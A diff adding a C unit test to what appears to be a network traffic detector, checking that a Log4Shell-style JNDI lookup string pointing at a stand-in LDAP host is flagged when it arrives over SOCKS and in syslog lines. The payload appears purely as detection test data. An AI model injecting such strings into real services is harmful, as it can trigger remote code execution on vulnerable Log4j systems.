@@ -83,3 +83,24 @@ START_TEST(a_tunnel_that_cannot_be_followed_is_said)
 	ck_assert_uint_eq(counters.value[COUNT_PROTO_HTTP_TUNNEL], 1);
 }
 END_TEST
+
+// A server that logs lines answers nothing, and takes the greeting for the first of them.
+START_TEST(words_of_a_proxys_client_are_searched_and_out_of_turn_they_are_said)
+{
+	static const char user[] = "\4\1\0\x50\1\2\3\4${jndi:ldap://x.example/a}";
+
+	flow.direction = DIRECTION_IN;
+	feed_bytes(true, bytes_of("\5\1\0", 3));
+	ck_assert_int_eq(app, APP_SOCKS);
+	say(true, "<13>${jndi:ldap://x.example/a}\n");
+	ck_assert_uint_eq(seen(OBS_JNDI), 1);
+	ck_assert_uint_eq(counters.value[COUNT_PROTO_HTTP_TUNNEL], 1);
+	say(true, "<13>more\n");
+	ck_assert_uint_eq(counters.value[COUNT_PROTO_HTTP_TUNNEL], 1);
+	setup();
+	flow.direction = DIRECTION_IN;
+	feed_bytes(true, bytes_of(user, sizeof(user)));
+	ck_assert_int_eq(app, APP_SOCKS);
+	ck_assert_uint_eq(seen(OBS_JNDI), 1);
+}
+END_TEST
